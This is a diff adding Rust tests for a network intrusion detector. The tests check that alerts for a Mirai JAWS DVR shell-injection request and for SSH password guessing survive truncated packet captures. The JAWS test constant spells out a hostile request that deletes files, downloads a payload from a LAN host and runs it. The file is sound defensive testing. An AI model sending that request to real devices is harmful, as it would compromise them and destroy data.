@@ -1,0 +1,116 @@
+//! Captures cut at a snap length (64, 96, 128 bytes, as public DDoS and
+//! backbone traces are): what the kept headers, length fields and payload
+//! prefixes show must still be seen, and a head split across segments of
+//! a whole capture must not pass for a cut one.
+
+mod common;
+
+use common::lan50::*;
+use common::*;
+use ward_core::Alert;
+
+const ATK_END: End = (ATK_MAC, ATK, 46550);
+const CAM_END: End = (CAM_MAC, CAM, 80);
+
+/// Mirai's JAWS request as the demo capture has it: the request line alone
+/// is 149 bytes, so a 96- or 128-byte snap length cuts it inside the target.
+const JAWS: &str = "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.168.50.127/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 192.168.50.175\r\nUser-Agent: Hello, World\r\nAccept: */*\r\n\r\n";
+
+/// A handshake, then `segments` from the client, each kept whole or cut at
+/// `snap` bytes of frame.
+fn http_exchange(segments: &[&[u8]], snap: Option<usize>) -> Vec<Alert> {
+    let mut r = Run::new();
+    r.at(0, &tcp(ATK_END, CAM_END, 1000, "S", b""));
+    r.at(100, &tcp(CAM_END, ATK_END, 5000, "SA", b""));
+    r.at(200, &tcp(ATK_END, CAM_END, 1001, "A", b""));
+    let mut seq = 1001u32;
+    for (i, s) in segments.iter().enumerate() {
+        let f = tcp(ATK_END, CAM_END, seq, "PA", s);
+        match snap {
+            Some(n) => r.at_cut(300 + i as i64 * 100, &f, n),
+            None => r.at(300 + i as i64 * 100, &f),
+        }
+        seq = seq.wrapping_add(s.len() as u32);
+    }
+    r.alerts()
+}
+
+fn jaws_alerts(alerts: &[Alert]) -> Vec<&Alert> {
+    alerts
+        .iter()
+        .filter(|a| a.signature == "jaws-dvr-shell-injection")
+        .collect()
+}
+
+#[test]
+fn an_exploit_request_line_cut_by_the_snap_length_is_still_matched() {
+    for snap in [96, 128, 160] {
+        let alerts = http_exchange(&[JAWS.as_bytes()], Some(snap));
+        let jaws = jaws_alerts(&alerts);
+        assert_eq!(jaws.len(), 1, "snap {snap}");
+        let ev = &jaws[0].evidence;
+        assert_eq!(ev["request_cut"], true, "snap {snap}");
+        let uri = ev["uri"].as_str().unwrap();
+        assert!(uri.starts_with("/shell?cd+/tmp") && uri.len() < 70, "{uri}");
+    }
+}
+
+#[test]
+fn a_request_split_across_whole_segments_is_not_a_cut_one() {
+    // The same head in two segments, captured whole: one alert, on the
+    // whole request, not marked cut.
+    let (a, b) = JAWS.as_bytes().split_at(40);
+    let alerts = http_exchange(&[a, b], None);
+    let jaws = jaws_alerts(&alerts);
+    assert_eq!(jaws.len(), 1);
+    assert!(!jaws[0].evidence.contains_key("request_cut"));
+    assert!(jaws[0].evidence["uri"]
+        .as_str()
+        .unwrap()
+        .ends_with("/tmp/jaws"));
+    // Its first segment alone (the rest never sent) is no request at all.
+    let alerts = http_exchange(&[a], None);
+    assert!(jaws_alerts(&alerts).is_empty());
+}
+
+#[test]
+fn a_benign_request_cut_by_the_snap_length_raises_nothing() {
+    let get = b"GET /ISAPI/System/deviceInfo?format=json&session=12345 HTTP/1.1\r\nHost: cam\r\nUser-Agent: Home/3.2 CFNetwork/1410.0.3 Darwin/22.6.0\r\nAccept: */*\r\n\r\n";
+    for snap in [64, 96, 128] {
+        let alerts = http_exchange(&[get, get, get], Some(snap));
+        assert!(alerts.is_empty(), "snap {snap}");
+    }
+}
+
+#[test]
+fn ssh_password_guessing_shows_in_a_header_only_capture() {
+    // Nine short SSH connections, every frame cut after its TCP header
+    // (54 bytes): only the IP and TCP lengths say that both sides talked.
+    let mut r = Run::new();
+    let banner = b"SSH-2.0-OpenSSH_8.4p1 Debian-5\r\n";
+    let kex = [0u8; 600];
+    for i in 0..9u16 {
+        let t = i64::from(i) * 2_000_000;
+        let c: End = (ATK_MAC, ATK, 40000 + i);
+        let s: End = (CAM_MAC, CAM, 22);
+        let frames = [
+            tcp(c, s, 100, "S", b""),
+            tcp(s, c, 900, "SA", b""),
+            tcp(c, s, 101, "A", b""),
+            tcp(s, c, 901, "PA", banner),
+            tcp(c, s, 101, "PA", b"SSH-2.0-libssh2_1.9.0\r\n"),
+            tcp(s, c, 901 + banner.len() as u32, "PA", &kex),
+            tcp(c, s, 124, "PA", &kex),
+            tcp(s, c, 1501 + banner.len() as u32, "FA", b""),
+            tcp(c, s, 724, "FA", b""),
+        ];
+        for (k, f) in frames.iter().enumerate() {
+            r.at_cut(t + k as i64 * 1000, f, 54);
+        }
+    }
+    let alerts = r.alerts();
+    assert!(
+        alerts.iter().any(|a| a.signature == "ssh-bruteforce"),
+        "{alerts:?}"
+    );
+}
